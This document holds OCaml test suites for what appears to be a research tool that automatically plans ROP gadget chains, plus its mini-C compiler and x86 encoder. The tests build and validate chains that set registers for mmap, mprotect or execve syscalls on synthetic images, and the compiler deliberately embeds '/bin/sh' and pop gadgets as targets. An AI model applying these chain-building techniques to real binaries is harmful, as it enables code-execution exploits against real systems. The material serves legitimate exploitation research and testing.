  Gp_util.Image.create ~entry:0x400000L ~code:(Encode.insns insns)
    ~data:(Bytes.create 16) ()

let gadget_at image addr =
  Gp_core.Gadget.of_summary (List.hd (Gp_symx.Exec.summarize image addr))

(* pop rax; ret | pop rdi; ret | pop rsi; ret | pop rdx; ret | syscall *)
let image = image_of
    [ Insn.Pop Reg.RAX; Insn.Ret; Insn.Pop Reg.RDI; Insn.Ret;
      Insn.Pop Reg.RSI; Insn.Ret; Insn.Pop Reg.RDX; Insn.Ret;
      Insn.Syscall; Insn.Hlt ]

let goal =
  { Gp_core.Goal.goal = Gp_core.Goal.Mmap (0L, 0x1000L, 7L);
    regs = [ (Reg.RAX, 9L); (Reg.RDI, 0L); (Reg.RSI, 0x1000L); (Reg.RDX, 7L) ];
    mem = [] }

let mk_plan () =
  let g_rax = gadget_at image 0x400000L in
  let g_rdi = gadget_at image 0x400002L in
  let g_rsi = gadget_at image 0x400004L in
  let g_rdx = gadget_at image 0x400006L in
  let g_sys = gadget_at image 0x400008L in
  let s0 = Option.get (Gp_core.Plan.instantiate_goal g_sys goal ~sid:0) in
  let s1 = Option.get (Gp_core.Plan.instantiate_for g_rax (Gp_core.Plan.Creg (Reg.RAX, 9L)) ~sid:1) in
  let s2 = Option.get (Gp_core.Plan.instantiate_for g_rdi (Gp_core.Plan.Creg (Reg.RDI, 0L)) ~sid:2) in
  let s3 = Option.get (Gp_core.Plan.instantiate_for g_rsi (Gp_core.Plan.Creg (Reg.RSI, 0x1000L)) ~sid:3) in
  let s4 = Option.get (Gp_core.Plan.instantiate_for g_rdx (Gp_core.Plan.Creg (Reg.RDX, 7L)) ~sid:4) in
  { Gp_core.Plan.steps = [ s0; s1; s2; s3; s4 ];
    orderings = [ (1, 2); (2, 3); (3, 4); (4, 0) ];
    links = [];
    open_conds = [];
    next_sid = 5 }

let test_linearize_respects_order () =
  let p = mk_plan () in
  let steps = Gp_core.Payload.linearize p in
  let sids = List.map (fun (s : Gp_core.Plan.step) -> s.Gp_core.Plan.sid) steps in
  Alcotest.(check (list int)) "execution order" [ 1; 2; 3; 4; 0 ] sids

let test_linearize_goal_last_without_orderings () =
  let p = { (mk_plan ()) with Gp_core.Plan.orderings = [] } in
  let steps = Gp_core.Payload.linearize p in
  match List.rev steps with
  | last :: _ -> Alcotest.(check bool) "goal last" true last.Gp_core.Plan.is_goal
  | [] -> Alcotest.fail "empty"

let test_build_layout () =
  let p = mk_plan () in
  let c = Gp_core.Payload.build p goal in
  let payload = c.Gp_core.Payload.c_payload in
  (* word 0 = first gadget (pop rax at 0x400000); word 1 = 9 (rax value);
     word 2 = second gadget (pop rdi)... *)
  Alcotest.(check int64) "entry" 0x400000L payload.(0);
  Alcotest.(check int64) "rax value" 9L payload.(1);
  Alcotest.(check int64) "pop rdi addr" 0x400002L payload.(2);
  Alcotest.(check int64) "rdi value" 0L payload.(3);
  Alcotest.(check int64) "syscall last" 0x400008L payload.(8)

let test_build_validates () =
  let p = mk_plan () in
  let c = Gp_core.Payload.build p goal in
  Alcotest.(check bool) "validated" true (Gp_core.Payload.validate image c)

let test_wrong_value_fails_validation () =
  let p = mk_plan () in
  let c = Gp_core.Payload.build p goal in
  (* corrupt the rax value: the syscall number changes, goal unmet *)
  c.Gp_core.Payload.c_payload.(1) <- 60L;
  Alcotest.(check bool) "corrupted payload rejected" false
    (Gp_core.Payload.validate image c)

let test_chain_keys () =
  let p = mk_plan () in
  let c = Gp_core.Payload.build p goal in
  Alcotest.(check bool) "ordered key mentions all" true
    (String.length (Gp_core.Payload.chain_key c) > 20);
  (* set key is order-insensitive *)
  let p2 = { p with Gp_core.Plan.orderings = [ (2, 1); (1, 3); (3, 4); (4, 0) ] } in
  let c2 = Gp_core.Payload.build p2 goal in
  Alcotest.(check string) "set key equal"
    (Gp_core.Payload.chain_set_key c)
    (Gp_core.Payload.chain_set_key c2)

let test_solve_target_slot () =
  let g = gadget_at image 0x400000L in
  let s = Option.get (Gp_core.Plan.instantiate_for g (Gp_core.Plan.Creg (Reg.RAX, 1L)) ~sid:0) in
  (match s.Gp_core.Plan.gadget.Gp_core.Gadget.jmp with
   | Gp_symx.Exec.Jret t -> (
     match Gp_core.Payload.solve_target s t 0xdeadL with
     | `Slot (8, 0xdeadL) -> ()
     | _ -> Alcotest.fail "expected slot 8 binding")
   | _ -> Alcotest.fail "ret gadget expected")

let test_describe_renders () =
  let p = mk_plan () in
  let c = Gp_core.Payload.build p goal in
  let text = Gp_core.Payload.describe c in
  Alcotest.(check bool) "mentions mmap" true
    (let rec contains i =
       i + 4 <= String.length text && (String.sub text i 4 = "mmap" || contains (i + 1))
     in
     contains 0)

let suite =
  [ Alcotest.test_case "linearize order" `Quick test_linearize_respects_order;
    Alcotest.test_case "goal forced last" `Quick test_linearize_goal_last_without_orderings;
    Alcotest.test_case "payload layout" `Quick test_build_layout;
    Alcotest.test_case "payload validates" `Quick test_build_validates;
    Alcotest.test_case "corrupted payload fails" `Quick test_wrong_value_fails_validation;
    Alcotest.test_case "chain keys" `Quick test_chain_keys;
    Alcotest.test_case "solve target slot" `Quick test_solve_target_slot;
    Alcotest.test_case "describe renders" `Quick test_describe_renders ]
