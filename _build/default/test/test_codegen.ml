(* Tests for the code generator: compile-and-run semantics over language
   features, plus structural checks on the emitted image (runtime
   routines, symbols, jump tables). *)

let run_src ?(fuel = 10_000_000) src =
  let image = Gp_codegen.Pipeline.compile src in
  Gp_emu.Machine.run_image ~fuel image

let check_exit name src expect =
  match run_src src with
  | Gp_emu.Machine.Exited v, _ -> Alcotest.(check int64) name expect v
  | Gp_emu.Machine.Fault m, _ -> Alcotest.failf "%s: fault %s" name m
  | Gp_emu.Machine.Timeout, _ -> Alcotest.failf "%s: timeout" name
  | Gp_emu.Machine.Attacked _, _ -> Alcotest.failf "%s: attacked" name

let test_arith () =
  check_exit "add" "int main() { return 2 + 3; }" 5L;
  check_exit "mul" "int main() { return 6 * 7; }" 42L;
  check_exit "mixed" "int main() { return (10 - 3) * 2 + (1 << 4); }" 30L;
  check_exit "bitops" "int main() { return (0xff & 0x0f) | 0x30 ^ 0x01; }" 63L;
  check_exit "neg" "int main() { return 0 - (0 - 7); }" 7L;
  check_exit "not" "int main() { return ~0 + 8; }" 7L;
  check_exit "sar" "int main() { return (0 - 16) >> 2; }" (-4L)

let test_comparisons () =
  check_exit "lt" "int main() { return 1 < 2; }" 1L;
  check_exit "ge" "int main() { return 1 >= 2; }" 0L;
  check_exit "eq" "int main() { return 5 == 5; }" 1L;
  check_exit "ne" "int main() { return 5 != 5; }" 0L;
  check_exit "signed" "int main() { return (0 - 1) < 1; }" 1L

let test_control_flow () =
  check_exit "if" "int main() { if (3 > 2) { return 1; } return 0; }" 1L;
  check_exit "else" "int main() { if (2 > 3) { return 1; } else { return 9; } }" 9L;
  check_exit "while" "int main() { int i = 0; while (i < 10) { i = i + 2; } return i; }" 10L;
  check_exit "for+break"
    "int main() { int i; for (i = 0; i < 100; i = i + 1) { if (i == 7) { break; } } return i; }"
    7L;
  check_exit "continue"
    "int main() { int s = 0; int i; for (i = 0; i < 10; i = i + 1) { if (i & 1) { continue; } s = s + i; } return s; }"
    20L;
  check_exit "shortcircuit"
    "int main() { int a = 1; int b = 0; if (a || b && 0) { return 3; } return 4; }" 3L

let test_functions () =
  check_exit "call" "int f(int a, int b) { return a * 10 + b; } int main() { return f(3, 4); }" 34L;
  check_exit "six args"
    "int f(int a, int b, int c, int d, int e, int g) { return a+b+c+d+e+g; } int main() { return f(1,2,3,4,5,6); }"
    21L;
  check_exit "recursion"
    "int fact(int n) { if (n < 2) { return 1; } return n * fact(n - 1); } int main() { return fact(5); }"
    120L

let test_memory () =
  check_exit "array" "int main() { int a[4]; a[2] = 9; return a[2]; }" 9L;
  check_exit "array expr index"
    "int main() { int a[8]; int i; for (i = 0; i < 8; i = i + 1) { a[i] = i * i; } return a[5]; }" 25L;
  check_exit "pointer" "int main() { int x = 3; int *p = &x; *p = *p + 4; return x; }" 7L;
  check_exit "global" "int g = 40; int main() { g = g + 2; return g; }" 42L;
  check_exit "global array" "int t[3] = {7, 8, 9}; int main() { return t[1]; }" 8L;
  check_exit "addr of array elem"
    "int main() { int a[4]; int *p = &a[2]; *p = 5; return a[2]; }" 5L

let test_print_output () =
  let outcome, m = run_src "int main() { print(0x1122334455667788); return 0; }" in
  (match outcome with Gp_emu.Machine.Exited 0L -> () | _ -> Alcotest.fail "exit 0");
  let out = Gp_emu.Machine.output m in
  Alcotest.(check int) "8 bytes" 8 (String.length out);
  Alcotest.(check int64) "value" 0x1122334455667788L
    (Bytes.get_int64_le (Bytes.of_string out) 0)

let test_exit_builtin () =
  check_exit "exit" "int main() { exit(33); return 1; }" 33L

let test_runtime_symbols () =
  let image = Gp_codegen.Pipeline.compile "int main() { return 0; }" in
  List.iter
    (fun name ->
      Alcotest.(check bool) name true (Gp_util.Image.find_symbol image name <> None))
    [ "_start"; "__rt_syscall3"; "__rt_restore"; "main"; "__rt_shell" ]

let test_runtime_shell_string () =
  let image = Gp_codegen.Pipeline.compile "int main() { return 0; }" in
  Alcotest.(check bool) "/bin/sh present" true
    (Gp_core.Goal.find_string image "/bin/sh" <> None)

let test_runtime_restore_unaligned_pops () =
  (* the register-restore routine must yield the classic unaligned pop
     gadgets (pop rdi; ret / pop rsi; ...) *)
  let image = Gp_codegen.Pipeline.compile "int main() { return 0; }" in
  let raws = Gp_core.Extract.raw_scan image in
  let has prefix =
    List.exists
      (fun (r : Gp_core.Extract.raw) ->
        match r.Gp_core.Extract.raw_insns with
        | first :: _ -> Gp_x86.Insn.to_string first = prefix
        | [] -> false)
      raws
  in
  List.iter
    (fun p -> Alcotest.(check bool) p true (has p))
    [ "pop rdi"; "pop rsi"; "pop rdx"; "pop rax"; "pop rcx"; "pop rbp" ]

let test_callee_saved_epilogues () =
  (* functions named to hash into callee-saved scratch registers must
     push/pop them; semantics stay correct either way *)
  check_exit "many functions"
    {|int f0(int x) { return x + 1; }
      int f1(int x) { return x * 2; }
      int f2(int x) { return x ^ 3; }
      int f3(int x) { return x - 4; }
      int main() { return f0(f1(f2(f3(10)))); }|}
    11L

let test_switch_jump_table () =
  (* flattening uses Ir.Switch; check jump tables link and run *)
  let ir = Gp_codegen.Pipeline.to_ir "int main() { int i = 0; int s = 0; while (i < 6) { s = s + i; i = i + 1; } return s; }" in
  let image =
    Gp_codegen.Pipeline.compile_ir
      ~transform:(Gp_obf.Obf.transform (Gp_obf.Obf.single Gp_obf.Obf.Flatten))
      ir
  in
  match Gp_emu.Machine.run_image image with
  | Gp_emu.Machine.Exited 15L, _ -> ()
  | o, _ ->
    Alcotest.failf "flattened switch run: %s"
      (match o with
       | Gp_emu.Machine.Exited v -> Printf.sprintf "exit %Ld" v
       | Gp_emu.Machine.Fault m -> "fault " ^ m
       | _ -> "other")

let test_emit_duplicate_label_rejected () =
  Alcotest.(check bool) "duplicate label" true
    (try
       ignore
         (Gp_codegen.Emit.assemble
            ~items:[ Gp_codegen.Emit.Label "a"; Gp_codegen.Emit.Label "a" ]
            ~data:[] ~jump_tables:[] ~func_names:[] ~entry_label:"a" ());
       false
     with Gp_codegen.Emit.Link_error _ -> true)

let test_emit_undefined_label_rejected () =
  Alcotest.(check bool) "undefined label" true
    (try
       ignore
         (Gp_codegen.Emit.assemble
            ~items:[ Gp_codegen.Emit.Label "a"; Gp_codegen.Emit.JmpL "nope" ]
            ~data:[] ~jump_tables:[] ~func_names:[] ~entry_label:"a" ());
       false
     with Gp_codegen.Emit.Link_error _ -> true)

let suite =
  [ Alcotest.test_case "arithmetic" `Quick test_arith;
    Alcotest.test_case "comparisons" `Quick test_comparisons;
    Alcotest.test_case "control flow" `Quick test_control_flow;
    Alcotest.test_case "functions" `Quick test_functions;
    Alcotest.test_case "memory" `Quick test_memory;
    Alcotest.test_case "print output" `Quick test_print_output;
    Alcotest.test_case "exit builtin" `Quick test_exit_builtin;
    Alcotest.test_case "runtime symbols" `Quick test_runtime_symbols;
    Alcotest.test_case "runtime shell string" `Quick test_runtime_shell_string;
    Alcotest.test_case "runtime unaligned pops" `Quick test_runtime_restore_unaligned_pops;
    Alcotest.test_case "callee-saved epilogues" `Quick test_callee_saved_epilogues;
    Alcotest.test_case "switch jump table" `Quick test_switch_jump_table;
    Alcotest.test_case "duplicate label rejected" `Quick test_emit_duplicate_label_rejected;
    Alcotest.test_case "undefined label rejected" `Quick test_emit_undefined_label_rejected ]
