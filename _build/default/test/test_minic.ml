(* Tests for the mini-C front end: lexer tokens, parser shapes, checker
   diagnostics. *)

open Gp_minic

let toks src = List.map fst (Lexer.tokenize src)

let test_lexer_basic () =
  Alcotest.(check bool) "tokens" true
    (toks "int x = 42;"
    = [ Lexer.KW "int"; Lexer.IDENT "x"; Lexer.PUNCT "="; Lexer.INT 42L;
        Lexer.PUNCT ";"; Lexer.EOF ])

let test_lexer_hex_and_ops () =
  Alcotest.(check bool) "hex" true (List.mem (Lexer.INT 0xffL) (toks "0xff"));
  Alcotest.(check bool) "shift" true (List.mem (Lexer.PUNCT "<<") (toks "a << 2"));
  Alcotest.(check bool) "le" true (List.mem (Lexer.PUNCT "<=") (toks "a <= 2"));
  Alcotest.(check bool) "land" true (List.mem (Lexer.PUNCT "&&") (toks "a && b"))

let test_lexer_comments () =
  Alcotest.(check bool) "line comment" true
    (toks "int x; // comment here\nint y;"
    = toks "int x; int y;");
  Alcotest.(check bool) "block comment" true
    (toks "int /* zap */ x;" = toks "int x;")

let test_lexer_string_escapes () =
  match toks {|"a\n\0b"|} with
  | [ Lexer.STRING s; Lexer.EOF ] ->
    Alcotest.(check string) "escapes" "a\n\000b" s
  | _ -> Alcotest.fail "expected one string"

let test_lexer_error () =
  Alcotest.(check bool) "bad char raises" true
    (try ignore (Lexer.tokenize "int $;"); false with Lexer.Lex_error _ -> true)

let test_parser_precedence () =
  (* 1 + 2 * 3 parses as 1 + (2 * 3) *)
  let p = Parser.parse "int main() { return 1 + 2 * 3; }" in
  match (List.hd p.Ast.funcs).Ast.body with
  | [ Ast.Return (Some (Ast.Binary (Ast.Add, Ast.Int 1L, Ast.Binary (Ast.Mul, _, _)))) ] -> ()
  | _ -> Alcotest.fail "precedence shape"

let test_parser_shift_precedence () =
  (* a >> 1 & 3 parses as (a >> 1) & 3 — & is looser than >> *)
  let p = Parser.parse "int main() { int a = 4; return a >> 1 & 3; }" in
  match (List.hd p.Ast.funcs).Ast.body with
  | [ _; Ast.Return (Some (Ast.Binary (Ast.BitAnd, Ast.Binary (Ast.Shr, _, _), Ast.Int 3L))) ] -> ()
  | _ -> Alcotest.fail "shift/and shape"

let test_parser_statements () =
  let p =
    Parser.parse
      {|int f(int a) { return a; }
        int main() {
          int x = 0;
          int arr[4];
          for (x = 0; x < 4; x = x + 1) { arr[x] = f(x); }
          while (x > 0) { x = x - 1; if (x == 2) { break; } else { continue; } }
          return *(&x);
        }|}
  in
  Alcotest.(check int) "two functions" 2 (List.length p.Ast.funcs);
  Alcotest.(check bool) "main found" true (Ast.find_func p "main" <> None)

let test_parser_globals () =
  let p =
    Parser.parse
      {|int g = 5;
        int arr[3] = {1, 2, 3};
        int s = "hello";
        int main() { return g; }|}
  in
  Alcotest.(check int) "three globals" 3 (List.length p.Ast.globals);
  match List.map (fun g -> g.Ast.ginit) p.Ast.globals with
  | [ Ast.Gint 5L; Ast.Garray (3, [ 1L; 2L; 3L ]); Ast.Gstring "hello" ] -> ()
  | _ -> Alcotest.fail "global shapes"

let test_parser_division_rejected () =
  Alcotest.(check bool) "div fails" true
    (try ignore (Parser.parse "int main() { return 4 / 2; }"); false
     with Failure _ -> true)

let test_parser_lvalue_check () =
  Alcotest.(check bool) "bad lvalue" true
    (try ignore (Parser.parse "int main() { 1 + 2 = 3; return 0; }"); false
     with Failure _ -> true)

let contains hay needle =
  let nh = String.length hay and nn = String.length needle in
  let rec go i = i + nn <= nh && (String.sub hay i nn = needle || go (i + 1)) in
  go 0

let check_error src fragment =
  try
    ignore (Check.parse_and_check src);
    Alcotest.failf "expected check error containing %s" fragment
  with Check.Check_error m ->
    if not (contains m fragment) then
      Alcotest.failf "error %S does not mention %S" m fragment

let test_check_undeclared () =
  check_error "int main() { return y; }" "undeclared variable y"

let test_check_duplicate () =
  check_error "int main() { int x; int x; return 0; }" "duplicate declaration"

let test_check_arity () =
  check_error "int f(int a) { return a; } int main() { return f(1, 2); }"
    "expects 1 argument"

let test_check_unknown_function () =
  check_error "int main() { return g(1); }" "undefined function g"

let test_check_break_outside_loop () =
  check_error "int main() { break; return 0; }" "outside of a loop"

let test_check_no_main () =
  check_error "int f() { return 0; }" "no main"

let test_check_variable_shift () =
  check_error "int main() { int a = 1; int b = 2; return a << b; }"
    "shift amount"

let test_check_scoping () =
  (* block-scoped declarations don't leak *)
  check_error "int main() { if (1) { int i = 5; } return i; }"
    "undeclared variable i"

let test_check_builtin_ok () =
  ignore (Check.parse_and_check "int main() { print(1); exit(0); return 0; }")

let suite =
  [ Alcotest.test_case "lexer basic" `Quick test_lexer_basic;
    Alcotest.test_case "lexer hex/ops" `Quick test_lexer_hex_and_ops;
    Alcotest.test_case "lexer comments" `Quick test_lexer_comments;
    Alcotest.test_case "lexer string escapes" `Quick test_lexer_string_escapes;
    Alcotest.test_case "lexer error" `Quick test_lexer_error;
    Alcotest.test_case "parser precedence" `Quick test_parser_precedence;
    Alcotest.test_case "parser shift precedence" `Quick test_parser_shift_precedence;
    Alcotest.test_case "parser statements" `Quick test_parser_statements;
    Alcotest.test_case "parser globals" `Quick test_parser_globals;
    Alcotest.test_case "division rejected" `Quick test_parser_division_rejected;
    Alcotest.test_case "lvalue check" `Quick test_parser_lvalue_check;
    Alcotest.test_case "check undeclared" `Quick test_check_undeclared;
    Alcotest.test_case "check duplicate" `Quick test_check_duplicate;
    Alcotest.test_case "check arity" `Quick test_check_arity;
    Alcotest.test_case "check unknown function" `Quick test_check_unknown_function;
    Alcotest.test_case "check break outside loop" `Quick test_check_break_outside_loop;
    Alcotest.test_case "check no main" `Quick test_check_no_main;
    Alcotest.test_case "check variable shift" `Quick test_check_variable_shift;
    Alcotest.test_case "check block scoping" `Quick test_check_scoping;
    Alcotest.test_case "check builtins" `Quick test_check_builtin_ok ]
