(* Tests for the partial-order planner: instantiation, ordering/threat
   machinery, and end-to-end search over small synthetic pools. *)

open Gp_x86

let image_of insns =
  Gp_util.Image.create ~entry:0x400000L ~code:(Encode.insns insns)
    ~data:(Bytes.create 16) ()

let gadget_at image addr =
  Gp_core.Gadget.of_summary (List.hd (Gp_symx.Exec.summarize image addr))

(* A tiny program with everything an execve plan needs. *)
let synthetic_image () =
  let insns =
    [ (* 0: pop rax; ret *)
      Insn.Pop Reg.RAX; Insn.Ret;
      (* 2: pop rdi; ret *)
      Insn.Pop Reg.RDI; Insn.Ret;
      (* 4: pop rsi; ret *)
      Insn.Pop Reg.RSI; Insn.Ret;
      (* 6: pop rdx; ret *)
      Insn.Pop Reg.RDX; Insn.Ret;
      (* 8: syscall *)
      Insn.Syscall;
      Insn.Hlt ]
  in
  image_of insns

let offsets = [ 0; 2; 4; 6; 8 ]

let synthetic_pool image =
  let base = image.Gp_util.Image.code_base in
  (* byte offsets of the instruction starts *)
  let addrs = List.map (fun k -> Int64.add base (Int64.of_int k)) offsets in
  Gp_core.Pool.build (List.map (gadget_at image) addrs)

let test_instantiate_pop () =
  let image = synthetic_image () in
  let g = gadget_at image 0x400002L in
  match Gp_core.Plan.instantiate_for g (Gp_core.Plan.Creg (Reg.RDI, 0x1234L)) ~sid:3 with
  | Some s ->
    Alcotest.(check int) "sid" 3 s.Gp_core.Plan.sid;
    Alcotest.(check bool) "binding slot0=0x1234" true
      (List.mem (0, 0x1234L) s.Gp_core.Plan.bindings);
    Alcotest.(check bool) "no demands" true (s.Gp_core.Plan.demands = []);
    Alcotest.(check bool) "effect rdi" true
      (List.assoc_opt Reg.RDI s.Gp_core.Plan.effects = Some 0x1234L)
  | None -> Alcotest.fail "pop rdi should instantiate"

let test_instantiate_wrong_reg_fails () =
  let image = synthetic_image () in
  let g = gadget_at image 0x400002L in
  (* pop rdi cannot deliver rbx *)
  Alcotest.(check bool) "no rbx" true
    (Gp_core.Plan.instantiate_for g (Gp_core.Plan.Creg (Reg.RBX, 1L)) ~sid:0 = None)

let test_instantiate_goal () =
  let image = synthetic_image () in
  let g = gadget_at image 0x400008L in
  let goal =
    { Gp_core.Goal.goal = Gp_core.Goal.Mprotect (Gp_emu.Machine.stack_base, 0x1000L, 7L);
      regs =
        [ (Reg.RAX, 10L); (Reg.RDI, Gp_emu.Machine.stack_base); (Reg.RSI, 0x1000L);
          (Reg.RDX, 7L) ];
      mem = [] }
  in
  match Gp_core.Plan.instantiate_goal g goal ~sid:0 with
  | Some s ->
    Alcotest.(check bool) "goal step" true s.Gp_core.Plan.is_goal;
    (* the bare syscall's registers pass through: all four demands *)
    Alcotest.(check int) "4 demands" 4 (List.length s.Gp_core.Plan.demands)
  | None -> Alcotest.fail "syscall should instantiate as goal"

let test_ordering_cycle_rejected () =
  let p = { Gp_core.Plan.steps = []; orderings = [ (1, 2); (2, 3) ]; links = [];
            open_conds = []; next_sid = 4 } in
  (match Gp_core.Plan.add_ordering p 3 1 with
   | None -> ()
   | Some _ -> Alcotest.fail "cycle must be rejected");
  match Gp_core.Plan.add_ordering p 1 3 with
  | Some _ -> ()
  | None -> Alcotest.fail "redundant consistent ordering must be accepted"

let test_search_finds_validated_plans () =
  let image = synthetic_image () in
  let pool = synthetic_pool image in
  let goal =
    Gp_core.Goal.concretize image
      (Gp_core.Goal.Mprotect (Gp_emu.Machine.stack_base, 0x1000L, 7L))
  in
  let accepted = ref [] in
  let accept p =
    match Gp_core.Payload.build_opt p goal with
    | Some c when Gp_core.Payload.validate image c ->
      accepted := c :: !accepted;
      true
    | _ -> false
  in
  let config =
    { Gp_core.Planner.max_plans = 3; node_budget = 2000; time_budget = 30.;
      branch_cap = 8; goal_cap = 4; max_steps = 10 }
  in
  let r = Gp_core.Planner.search ~config ~accept pool goal in
  Alcotest.(check bool) "found plans" true (List.length r.Gp_core.Planner.plans >= 1);
  (* every accepted chain sets the goal registers via validated execution *)
  Alcotest.(check bool) "validated" true (!accepted <> [])

let test_search_impossible_goal () =
  (* a pool without a syscall gadget can never reach the goal *)
  let image = image_of [ Insn.Pop Reg.RDI; Insn.Ret ] in
  let pool = Gp_core.Pool.build [ gadget_at image 0x400000L ] in
  let goal = Gp_core.Goal.concretize image (Gp_core.Goal.Mmap (0L, 0x1000L, 7L)) in
  let r = Gp_core.Planner.search pool goal in
  Alcotest.(check int) "no plans" 0 (List.length r.Gp_core.Planner.plans);
  Alcotest.(check bool) "search exhausted" true r.Gp_core.Planner.exhausted

let test_threat_resolution_orders_conflicting_setters () =
  (* two steps that both write rdi: the planner must order them so the
     goal's consumer sees the right value; we test the primitive *)
  let image = synthetic_image () in
  let g = gadget_at image 0x400002L in
  let s1 = Option.get (Gp_core.Plan.instantiate_for g (Gp_core.Plan.Creg (Reg.RDI, 1L)) ~sid:1) in
  let s2 = Option.get (Gp_core.Plan.instantiate_for g (Gp_core.Plan.Creg (Reg.RDI, 2L)) ~sid:2) in
  let p =
    { Gp_core.Plan.steps = [ s1; s2 ]; orderings = [];
      links = [ (1, Gp_core.Plan.Creg (Reg.RDI, 1L), 0) ];
      open_conds = []; next_sid = 3 }
  in
  (* s2 (writing rdi=2) threatens the link (1 -> rdi=1 -> 0): it must be
     ordered before step 1 or after step 0 *)
  match Gp_core.Plan.protect_link p 1 (Gp_core.Plan.Creg (Reg.RDI, 1L)) 0 with
  | Some p' ->
    Alcotest.(check bool) "ordering added" true
      (List.mem (2, 1) p'.Gp_core.Plan.orderings
      || List.mem (0, 2) p'.Gp_core.Plan.orderings)
  | None -> Alcotest.fail "threat should be resolvable"

let test_same_value_clobber_is_no_threat () =
  let image = synthetic_image () in
  let g = gadget_at image 0x400002L in
  let s = Option.get (Gp_core.Plan.instantiate_for g (Gp_core.Plan.Creg (Reg.RDI, 1L)) ~sid:5) in
  Alcotest.(check bool) "same value harmless" false
    (Gp_core.Plan.clobbers s (Gp_core.Plan.Creg (Reg.RDI, 1L)));
  Alcotest.(check bool) "different value threat" true
    (Gp_core.Plan.clobbers s (Gp_core.Plan.Creg (Reg.RDI, 9L)))

let test_memoized_instantiation_consistent () =
  let image = synthetic_image () in
  let g = gadget_at image 0x400002L in
  let memo = Hashtbl.create 8 in
  let a = Gp_core.Planner.instantiate_memo memo g (Gp_core.Plan.Creg (Reg.RDI, 7L)) ~sid:1 in
  let b = Gp_core.Planner.instantiate_memo memo g (Gp_core.Plan.Creg (Reg.RDI, 7L)) ~sid:9 in
  match a, b with
  | Some sa, Some sb ->
    Alcotest.(check int) "fresh sid" 9 sb.Gp_core.Plan.sid;
    Alcotest.(check bool) "same bindings" true
      (sa.Gp_core.Plan.bindings = sb.Gp_core.Plan.bindings)
  | _ -> Alcotest.fail "memoized instantiation failed"

let suite =
  [ Alcotest.test_case "instantiate pop" `Quick test_instantiate_pop;
    Alcotest.test_case "wrong register fails" `Quick test_instantiate_wrong_reg_fails;
    Alcotest.test_case "instantiate goal" `Quick test_instantiate_goal;
    Alcotest.test_case "ordering cycles rejected" `Quick test_ordering_cycle_rejected;
    Alcotest.test_case "search finds validated plans" `Quick
      test_search_finds_validated_plans;
    Alcotest.test_case "impossible goal exhausts" `Quick test_search_impossible_goal;
    Alcotest.test_case "threat resolution" `Quick
      test_threat_resolution_orders_conflicting_setters;
    Alcotest.test_case "same-value clobber" `Quick test_same_value_clobber_is_no_threat;
    Alcotest.test_case "memoized instantiation" `Quick test_memoized_instantiation_consistent ]
