(* Tests for the x86-64 encoder/decoder: exact encodings, the round-trip
   property over the whole instruction space, and the unaligned-decode
   behaviour gadget harvesting relies on. *)

open Gp_x86

let check_bytes name insn expect =
  Alcotest.(check string) name expect (Gp_util.Hex.of_bytes (Encode.insn insn))

(* encodings cross-checked against an external assembler *)
let test_known_encodings () =
  check_bytes "ret" Insn.Ret "c3";
  check_bytes "push rax" (Insn.Push Reg.RAX) "50";
  check_bytes "push r15" (Insn.Push Reg.R15) "4157";
  check_bytes "pop rdi" (Insn.Pop Reg.RDI) "5f";
  check_bytes "pop r12" (Insn.Pop Reg.R12) "415c";
  check_bytes "mov rax, rbx" (Insn.Mov (Insn.Reg Reg.RAX, Insn.Reg Reg.RBX)) "4889d8";
  check_bytes "mov rax, [rbp-8]"
    (Insn.Mov (Insn.Reg Reg.RAX, Insn.Mem (Insn.mem ~disp:(-8) Reg.RBP)))
    "488b45f8";
  check_bytes "mov [rsp+8], rcx"
    (Insn.Mov (Insn.Mem (Insn.mem ~disp:8 Reg.RSP), Insn.Reg Reg.RCX))
    "48894c2408";
  check_bytes "add rax, 1" (Insn.Add (Insn.Reg Reg.RAX, Insn.Imm 1L)) "4881c001000000";
  check_bytes "xor rdx, rdx" (Insn.Xor (Insn.Reg Reg.RDX, Insn.Reg Reg.RDX)) "4831d2";
  check_bytes "syscall" Insn.Syscall "0f05";
  check_bytes "leave" Insn.Leave "c9";
  check_bytes "jmp rax" (Insn.JmpReg Reg.RAX) "ffe0";
  check_bytes "call rbx" (Insn.CallReg Reg.RBX) "ffd3";
  check_bytes "movabs r9"
    (Insn.Movabs (Reg.R9, 0x1122334455667788L))
    "49b98877665544332211";
  check_bytes "lea rsp, [rbp-8]" (Insn.Lea (Reg.RSP, Insn.mem ~disp:(-8) Reg.RBP))
    "488d65f8"

let test_rex_b_pop_trick () =
  (* the classic unaligned gadget: 41 5f = pop r15; skipping the REX byte
     yields 5f = pop rdi *)
  let bytes = Encode.insns [ Insn.Pop Reg.R15; Insn.Ret ] in
  (match Decode.decode bytes 1 with
   | Some (Insn.Pop Reg.RDI, 1) -> ()
   | _ -> Alcotest.fail "expected pop rdi at offset 1");
  match Decode.decode_run bytes 1 with
  | Some [ (Insn.Pop Reg.RDI, 0, 1); (Insn.Ret, 1, 1) ] -> ()
  | _ -> Alcotest.fail "expected pop rdi; ret run"

let test_decode_junk_is_none () =
  (* opcodes we never emit must be rejected, not crash *)
  List.iter
    (fun b ->
      match Decode.decode (Bytes.make 4 (Char.chr b)) 0 with
      | None -> ()
      | Some _ -> Alcotest.failf "byte %02x should not decode" b)
    [ 0x06; 0x0e; 0x16; 0x1e; 0x27; 0x2f; 0x37; 0x3f; 0x60; 0x62 ]

let test_decode_rel8_jumps () =
  (* eb 05 = jmp +5; 74 fb = je -5: short forms we decode but never emit *)
  (match Decode.decode (Bytes.of_string "\xeb\x05") 0 with
   | Some (Insn.Jmp 5, 2) -> ()
   | _ -> Alcotest.fail "jmp rel8");
  match Decode.decode (Bytes.of_string "\x74\xfb") 0 with
  | Some (Insn.Jcc (Insn.E, -5), 2) -> ()
  | _ -> Alcotest.fail "je rel8"

let test_decode_run_stops_at_terminator () =
  let bytes =
    Encode.insns [ Insn.Nop; Insn.Pop Reg.RAX; Insn.Ret; Insn.Nop ]
  in
  match Decode.decode_run bytes 0 with
  | Some insns ->
    Alcotest.(check int) "3 instructions" 3 (List.length insns);
    (match List.rev insns with
     | (Insn.Ret, _, _) :: _ -> ()
     | _ -> Alcotest.fail "must end at ret")
  | None -> Alcotest.fail "run should decode"

let test_cond_negate_involution () =
  List.iter
    (fun i ->
      let c = Insn.cond_of_number i in
      Alcotest.(check bool) "negate twice" true
        (Insn.cond_negate (Insn.cond_negate c) = c))
    (List.init 16 Fun.id)

let test_reg_numbering () =
  List.iter
    (fun r ->
      Alcotest.(check bool) "roundtrip" true (Reg.of_number (Reg.number r) = r);
      Alcotest.(check bool) "name roundtrip" true (Reg.of_name (Reg.name r) = r))
    Reg.all

let test_terminators () =
